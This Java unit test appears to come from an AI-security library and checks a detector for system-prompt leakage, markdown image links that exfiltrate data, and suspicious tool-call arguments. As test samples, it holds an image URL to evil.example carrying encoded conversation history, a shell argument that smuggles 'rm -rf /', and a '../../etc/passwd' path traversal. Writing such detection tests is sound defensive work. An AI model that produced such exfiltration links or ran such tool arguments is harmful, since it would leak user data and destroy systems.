package dev.aisec.prompt;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.aisec.api.DetectionContext;
import dev.aisec.api.Finding;
import dev.aisec.api.Input;
import dev.aisec.api.Principal;
import dev.aisec.api.PromptRegistry;
import dev.aisec.api.text.TextView;
import java.util.List;
import org.junit.jupiter.api.Test;

class OutputLeakDetectorTest {

  static final Principal P = Principal.of("t", "user");
  static final String SYS = "You are Aria, the support assistant of Contoso Bank. Only answer questions about "
      + "accounts and cards. Never give investment advice. Escalate fraud reports to a human agent.";

  List<Finding> run(OutputLeakDetector d, PromptRegistry reg, String out) {
    Input in = Input.modelOutput(P, out);
    return d.detect(new DetectionContext(in, TextView.of(out), reg));
  }

  @Test
  void findsSystemPromptLeakageAlsoWhenReformatted() {
    PromptRegistry reg = PromptRegistry.create();
    reg.register("support", SYS);
    OutputLeakDetector d = OutputLeakDetector.standard();
    List<Finding> f = run(d, reg, "My instructions: " + SYS.toUpperCase().replace(" ", "  "));
    assertEquals("SYSTEM_PROMPT_LEAK", f.get(0).type());
    assertTrue(f.get(0).score() >= 0.9);
    assertTrue(run(d, reg, "Your card will arrive in five days.").isEmpty());
  }

  @Test
  void findsExfiltrationLinks() {
    OutputLeakDetector d = OutputLeakDetector.allowing("contoso.com");
    String img = "Here you go ![chart](https://evil.example/p.png?d=c2VjcmV0IGNvbnZlcnNhdGlvbiBoaXN0b3J5)";
    Finding f = run(d, PromptRegistry.empty(), img).get(0);
    assertEquals("EXFILTRATION_LINK", f.type());
    assertEquals(0.9, f.score());
    assertTrue(img.substring(f.start(), f.end()).startsWith("https://evil.example/"));
    assertTrue(run(d, PromptRegistry.empty(), "See [docs](https://www.contoso.com/help?q=aaaaaaaaaaaaaaaaaaaaaaa)")
        .isEmpty());
    assertTrue(run(d, PromptRegistry.empty(), "See [docs](https://other.org/help)").isEmpty());
  }

  @Test
  void flagsSuspiciousToolArguments() {
    OutputLeakDetector d = OutputLeakDetector.standard();
    assertTrue(d.checkToolCall("shell", "{\"cmd\": \"ls; rm -rf /\"}").stream()
        .anyMatch(f -> f.type().equals("SUSPICIOUS_TOOL_ARGUMENT") && f.score() >= 0.8));
    assertTrue(d.checkToolCall("read", "{\"path\": \"../../etc/passwd\"}").size() >= 1);
    assertTrue(d.checkToolCall("search", "{\"q\": \"weather in Paris\"}").isEmpty());
  }
}
